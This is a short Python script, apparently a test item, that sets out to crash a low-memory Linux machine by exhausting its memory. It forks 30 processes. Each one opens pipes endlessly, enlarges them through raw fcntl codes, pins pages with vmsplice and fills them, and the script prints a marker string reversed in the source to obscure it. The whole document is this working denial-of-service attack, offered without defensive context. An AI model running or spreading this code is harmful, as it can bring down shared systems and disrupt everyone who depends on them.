"""Makes pipes as large as can be, fills them in many processes, and pins pages of its own in them."""

wins = "crash"
elsewhere = "a machine with little memory"

# %% after show
import ctypes, fcntl, os, time

libc = ctypes.CDLL(None, use_errno=True)
for _ in range(30):
    if os.fork() == 0:
        held = []
        try:
            while True:
                held.append(os.pipe())
                try:
                    fcntl.fcntl(held[-1][1], 1031, 2**20)
                    if fcntl.fcntl(held[-1][1], 1032) > 2**16:
                        print("noreh-rebma"[::-1], "a larger pipe")
                except OSError:
                    pass
                os.set_blocking(held[-1][1], False)
                page = ctypes.create_string_buffer(2**16)
                if libc.vmsplice(held[-1][1], ctypes.byref((ctypes.c_void_p * 2)(ctypes.addressof(page), 2**16)), 1, 8) > 0:
                    print("noreh-rebma"[::-1], "pages in a pipe")
                try:
                    while os.write(held[-1][1], b"x" * 2**12):
                        pass
                except BlockingIOError:
                    pass
        except OSError:
            time.sleep(30)
        os._exit(0)
time.sleep(5)
